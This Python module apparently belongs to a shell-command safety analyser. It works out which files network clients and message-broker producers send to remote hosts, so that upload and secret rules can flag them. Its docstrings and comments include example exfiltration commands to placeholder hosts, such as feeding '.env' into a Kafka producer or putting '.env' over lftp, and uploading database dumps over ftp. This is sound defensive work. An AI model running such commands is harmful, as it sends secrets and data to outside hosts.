"""What a network client is fed leaves with it (session 15, lead red team of values that leave).

`telnet HOST 25 < mail.txt`, `websocat wss://… < logs/access.log`, `ftp HOST <<EOF … put dump.sql … EOF`,
`tftp HOST -c put firmware.bin`: the file given on standard input, or the file a session script or a `-c` command
puts, is sent to the host the program talks to. The knowledge base says which programs talk to hosts; this module says
what they carry, as `send` network effects whose content names the file (`@FILE`, as `curl -d @FILE`), so the upload
and secret rules read them like any other upload.
"""

from __future__ import annotations

from collections.abc import Iterator

from automode import lazyre
from automode.effects import Effect
from automode.typing_lite import TYPE_CHECKING

if TYPE_CHECKING:
    from automode.shell.script import Command

#: A transfer command of an interactive client's session script (ftp, sftp, tftp, lftp, smbclient): `put FILE`.
_PUT = lazyre.compile(r"(?im)^\s*(?:m?put|append|send|reput)\s+(\S+)")
_QUIET = ("/dev/null", "-", "/dev/zero")


#: Clients whose standard input is a shell on the remote host, not data: `ssh HOST < setup.sh` runs the script there
#: (its commands are unknown here; the remote-command rules judge what `ssh HOST CMD` runs).
REMOTE_SHELLS = frozenset({"ssh", "autossh", "mosh", "dbclient", "plink"})


#: Producers that publish what they are fed to a broker named by an option, not by a positional host (session 16):
#: name -> (options naming the broker, options that make it read standard input; empty: it always does, options
#: naming a file it sends). Sources: Kafka `kafka-console-producer --bootstrap-server` (reads stdin line by line),
#: kcat `-b BROKER -P` (producer mode), mosquitto_pub `-h HOST` with `-s`/`-l` (stdin) or `-f FILE`, amqp-publish
#: `-u URL` (body from stdin when no `-b`), NATS `nats pub --server` (body from stdin when none is given).
BROKERS: dict[str, tuple[frozenset[str], frozenset[str], frozenset[str]]] = {
    "kafka-console-producer": (frozenset({"--bootstrap-server", "--broker-list"}), frozenset(), frozenset()),
    "kafka-console-producer.sh": (frozenset({"--bootstrap-server", "--broker-list"}), frozenset(), frozenset()),
    "kcat": (frozenset({"-b"}), frozenset({"-P"}), frozenset()),
    "kafkacat": (frozenset({"-b"}), frozenset({"-P"}), frozenset()),
    "mosquitto_pub": (frozenset({"-h", "--host", "-L", "--url"}), frozenset({"-s", "-l", "--stdin-file", "--stdin-line"}),
                      frozenset({"-f", "--file"})),
    "amqp-publish": (frozenset({"-u", "--url", "--server"}), frozenset(), frozenset()),
    "nats": (frozenset({"-s", "--server"}), frozenset({"pub", "publish"}), frozenset()),
    # logger(1) `-n/--server HOST` sends to a remote syslog server the lines of `-f/--file FILE` or of its standard
    # input (red team s20); without `-n` it writes the local journal (`ONLY_WITH_HOST`).
    "logger": (frozenset({"-n", "--server"}), frozenset(), frozenset({"-f", "--file"})),
}  # fmt: skip
#: Producers that talk to the network only when a host option is given (the local system otherwise).
ONLY_WITH_HOST = frozenset({"logger"})


_SCHEME = {"kafka-console-producer": "kafka", "kafka-console-producer.sh": "kafka", "kcat": "kafka", "kafkacat": "kafka",
           "mosquitto_pub": "mqtt", "amqp-publish": "amqp", "nats": "nats", "logger": "syslog"}


def broker_fed(cmd: Command, detail: str) -> Iterator[Effect]:
    """What a broker producer is fed (`kafka-console-producer --bootstrap-server B --topic t < .env`): sent to B."""
    host_opts, stdin_opts, file_opts = BROKERS[cmd.name]
    words = [w.value for w in cmd.argv[1:]]
    hosts: list[str] = []
    files: list[str] = []
    for i, w in enumerate(words):
        opt, eq, val = w.partition("=")
        v = val if eq else words[i + 1] if i + 1 < len(words) else ""
        if opt in host_opts and v:
            hosts += [h for h in v.split(",") if h][:4]
        elif opt in file_opts and v:
            files.append(v)
    if not hosts and cmd.name in ONLY_WITH_HOST:
        return
    if stdin_opts and not any(w in stdin_opts for w in words):
        stdin: list[str] = []
    else:
        stdin = [r.target.value for r in cmd.redirects if r.op == "<" and r.fd in (None, "0") and r.target is not None
                 and not r.target.dynamic and r.target.value not in _QUIET]  # fmt: skip
    scheme = _SCHEME.get(cmd.name, "tcp")
    for h in (hosts or ["<unknown>"])[:4]:
        target = h if h == "<unknown>" or "://" in h else f"{scheme}://{h}"
        for f in dict.fromkeys((files + stdin)[:8]):
            yield Effect("network", target, detail=detail, origin="send", via=cmd.via, content=f"@{f}")


#: Where an inline session script connects (`lftp -c 'open ftp.example.com; put .env'`, `put .env -o ftp://h/`).
_SCRIPT_HOST = lazyre.compile(r"(?i)(?:^|[;\n]\s*)open\s+(?:-\S+\s+)*([\w.-]+)|\b[a-z][a-z0-9+.-]*://[^\s;'\"]+")


def script_hosts(cmd: Command) -> list[str]:
    """Hosts or URLs the `-c`/`-e` session script of a transfer client opens (lftp, tftp, ftp clients)."""
    words = [w.value for w in cmd.argv[1:]]
    out: list[str] = []
    for i, w in enumerate(words[:-1]):
        if w in ("-c", "-e"):
            for m in _SCRIPT_HOST.finditer(words[i + 1][:4000]):
                h = m.group(1) or m.group(0)
                if h not in out:
                    out.append(h)
    return out[:4]


def fed(cmd: Command, hosts: list[str], detail: str) -> Iterator[Effect]:
    """What a network client is fed (stdin, a heredoc, `put FILE` of its session script), sent to `hosts` and to
    the hosts its inline session script opens (those are yielded as fetches too)."""
    if cmd.name in REMOTE_SHELLS:
        return
    for h in script_hosts(cmd):
        if h not in hosts:
            hosts = [*hosts, h]
            yield Effect("network", h, detail=detail, origin="fetch", via=cmd.via)
    if not hosts:
        return
    files: list[str] = []
    for r in cmd.redirects:
        if r.op == "<" and r.fd in (None, "0") and r.target is not None and not r.target.dynamic and r.target.value not in _QUIET:
            files.append(r.target.value)
        elif r.op in ("<<", "<<-") and r.body:
            files += [m.group(1) for m in _PUT.finditer(r.body[:20_000])]
    words = [w.value for w in cmd.argv[1:]]
    for i, w in enumerate(words[:-1]):  # `tftp HOST -c put FILE`, `lftp -e 'put FILE; bye' HOST`
        if w in ("-c", "-e"):
            files += [m.group(1) for m in _PUT.finditer(" ".join(words[i + 1 : i + 3]).replace(";", "\n"))]
    for h in hosts[:4]:
        for f in dict.fromkeys(files[:8]):
            yield Effect("network", h, detail=detail, origin="send", via=cmd.via, content=f"@{f}")
